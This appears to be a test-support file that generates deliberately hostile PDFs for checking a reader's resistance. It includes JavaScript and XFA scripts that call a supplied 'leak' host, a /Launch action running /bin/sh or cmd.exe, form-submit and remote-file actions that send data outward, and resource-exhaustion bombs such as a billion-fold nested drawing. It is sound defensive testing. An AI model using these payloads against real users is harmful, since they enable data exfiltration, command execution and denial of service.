import { FIRST_MORE, type PdfDraft, writePdf } from '../../support/pdf.ts';

const words = (name: string): string[] => [`hostile ${name}`];
const reference = (index: number): string => `${FIRST_MORE + index} 0 R`;
const stream = (dictionary: string, data: string): string =>
  `<< ${dictionary} /Length ${data.length} >>\nstream\n${data}\nendstream`;

/** Runs whatever a reader would run when the document or a page is opened, or anything on it is passed or clicked. */
const acting = (action: string): PdfDraft => ({
  pages: words('action'),
  catalog: `/OpenAction ${action} /AA << /WC ${action} /DP ${action} >> /Names << /JavaScript << /Names [(a) ${action}] >> >>`,
  page: `/AA << /O ${action} >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 200 160] /Border [0 0 1] /A ${action} >> << /Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [0 0 90 90] /A ${action} /AA << /E ${action} >> >>]`,
});

const FORMS = 9;
/** Draws itself a thousand million times. */
const laughter: PdfDraft = {
  pages: words('laughter'),
  page: `/Resources << /Font << /F1 3 0 R >> /XObject << /X ${reference(0)} >> >> /Contents ${reference(FORMS)}`,
  more: [
    ...Array.from({ length: FORMS }, (_form, index) =>
      stream(
        `/Type /XObject /Subtype /Form /BBox [0 0 200 160] /Resources << /XObject << /X ${reference(index + 1)} >> >>`,
        index === FORMS - 1 ? '0 0 1 1 re f' : '/X Do '.repeat(10),
      ),
    ),
    stream('', '/X Do'),
  ],
};

const pictures = (leak: string): PdfDraft => ({
  pages: words('pictures'),
  page: `/Contents ${reference(2)} /Resources << /Font << /F1 3 0 R >> /XObject << /A ${reference(0)} /B ${reference(1)} >> >>`,
  more: [
    stream(
      '/Type /XObject /Subtype /Image /Width 100000 /Height 100000 /BitsPerComponent 8 /ColorSpace /DeviceRGB',
      'x',
    ),
    // Its data are said to be elsewhere.
    stream(
      `/Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray /F << /FS /URL /F (${leak}/pdf-stream) >>`,
      'x',
    ),
    stream('', 'BT /F1 14 Tf 24 120 Td (hostile pictures) Tj ET 90 0 0 90 0 0 cm /A Do /B Do'),
  ],
});

const MANY_PAGES = 10_000;

/** By name; each has "hostile" on its first page. `laughter` is last, and too much for any reader. */
export const hostileDocuments = (leak: string): Readonly<Record<string, PdfDraft>> => ({
  script: acting(
    `<< /S /JavaScript /JS (globalThis.owned = 1; app.launchURL\\('${leak}/pdf-script'\\); fetch\\('${leak}/pdf-fetch'\\)) >>`,
  ),
  launch: acting('<< /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >> >>'),
  address: acting(`<< /S /URI /URI (${leak}/pdf-uri) >>`),
  submit: acting(`<< /S /SubmitForm /F << /FS /URL /F (${leak}/pdf-submit) >> /Flags 4 >>`),
  elsewhere: acting(`<< /S /GoToR /F << /FS /URL /F (${leak}/pdf-remote) >> /D [0 /Fit] >>`),
  embedded: {
    pages: words('embedded'),
    catalog: `/Names << /EmbeddedFiles << /Names [(a.html) << /Type /Filespec /F (a.html) /FS /URL /EF << /F ${reference(0)} >> >>] >> >>`,
    more: [
      stream(
        `/Type /EmbeddedFile /Subtype /text#2Fhtml /F << /FS /URL /F (${leak}/pdf-embedded) >>`,
        '<script>owned = 1</script>',
      ),
    ],
  },
  form: {
    pages: words('form'),
    catalog: `/NeedsRendering true /AcroForm << /Fields [] /XFA ${reference(0)} >>`,
    more: [
      stream(
        '',
        `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="x"><draw><value><image href="${leak}/pdf-xfa.png"/></value></draw><event activity="initialize"><script contentType="application/x-javascript">globalThis.owned = 1</script></event></subform></template></xdp:xdp>`,
      ),
    ],
  },
  pictures: pictures(leak),
  'huge-page': { pages: words('huge page'), mediaBox: '[0 0 1e9 1e9]' },
  'thin-page': { pages: words('thin page'), mediaBox: '[0 0 200 1e8]' },
  'own-parent': {
    pages: words('own parent'),
    page: '/Parent 10 0 R',
    catalog: '/Outlines 1 0 R /StructTreeRoot 1 0 R',
  },
  'many-pages': { pages: Array.from({ length: MANY_PAGES }, (_page, index) => `hostile ${index + 1}`) },
  laughter,
});

export const hostilePdf = (name: string, leak: string): string =>
  writePdf(hostileDocuments(leak)[name] ?? { pages: [] }).toString('base64');
